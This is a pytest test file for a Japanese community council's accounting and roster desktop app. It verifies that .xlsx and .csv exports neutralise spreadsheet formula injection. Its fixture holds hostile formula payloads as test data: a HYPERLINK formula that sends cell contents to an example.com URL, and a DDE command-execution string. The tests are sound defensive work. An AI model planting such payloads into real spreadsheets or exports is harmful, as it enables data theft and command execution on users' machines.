"""Exports write what a user typed as text: a 摘要 or name starting with = + - @ TAB or CR never
becomes a live formula in the .xlsx (explicit string cells) or the .csv (a leading ')."""

from __future__ import annotations

import csv
import zipfile
from datetime import date

import openpyxl
import pytest

from kyodo_desktop.domain.accounting import CashBookEntryInput
from kyodo_desktop.io.cash_book_export import export_cash_book
from kyodo_desktop.io.cash_book_import import preview_cash_book
from kyodo_desktop.io.roster_export import export_organizations
from kyodo_desktop.services.accounting.cash_book import record_entries
from kyodo_desktop.services.council.profile import create_council
from kyodo_desktop.services.roster import organizations, people

HYPERLINK = '=HYPERLINK("http://example.com/x?d="&A1,"詳細")'
DDE = "=cmd|' /C calc'!A0"
OTHERS = ("+1+2", "-3+4", "@SUM(1,2)")


@pytest.fixture
def hostile(store):
    council_id, _changes = create_council(store, "湯田地域づくり協議会")
    texts = (HYPERLINK, DDE, *OTHERS)
    record_entries(store, council_id, 2026, [
        CashBookEntryInput(date(2026, 4, i + 1), "own_funds", "expense", "consumables", text,
                           100 + i, payee=DDE, memo=HYPERLINK)
        for i, text in enumerate(texts)])
    people.create_person(store, council_id, {"name": HYPERLINK, "phone": "083-000-0000"})
    organizations.create_organization(store, council_id, {"name": DDE, "notes": HYPERLINK})
    return council_id, texts


def _sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))


def _formula_cells(path) -> list[str]:
    workbook = openpyxl.load_workbook(path)
    return [cell.coordinate for sheet in workbook for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


def test_cash_book_xlsx_holds_no_formula(store, hostile, tmp_path):
    council_id, texts = hostile
    path = tmp_path / "book.xlsx"
    export_cash_book(store, council_id, 2026, path)
    assert "<f>" not in _sheet_xml(path) and _formula_cells(path) == []
    values = [cell for row in openpyxl.load_workbook(path).active.iter_rows(values_only=True)
              for cell in row]
    assert all(text in values for text in texts) and DDE in values


def test_roster_xlsx_holds_no_formula(store, hostile, tmp_path):
    council_id, _texts = hostile
    path = tmp_path / "roster.xlsx"
    export_organizations(store, council_id, 2026, path)
    assert "<f>" not in _sheet_xml(path) and _formula_cells(path) == []
    values = {cell for sheet in openpyxl.load_workbook(path)
              for row in sheet.iter_rows(values_only=True) for cell in row}
    assert {HYPERLINK, DDE} <= values


def test_csv_exports_quote_formula_text_and_read_back(store, hostile, tmp_path):
    council_id, texts = hostile
    book, roster = tmp_path / "book.csv", tmp_path / "roster.csv"
    export_cash_book(store, council_id, 2026, book)
    export_organizations(store, council_id, 2026, roster)
    fields = [field for path in (book, roster)
              for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines())
              for field in row]
    assert "'" + DDE in fields and "'" + HYPERLINK in fields
    assert not any(field.startswith(("=", "+", "@", "\t", "\r")) for field in fields)
    assert not any(field.startswith("-") and not field.lstrip("-").isdigit() for field in fields)
    preview = preview_cash_book(book, fiscal_year=2026, fund_code="own_funds")
    assert [entry.description for entry in preview.entries] == list(texts)
    assert {entry.payee for entry in preview.entries} == {DDE}
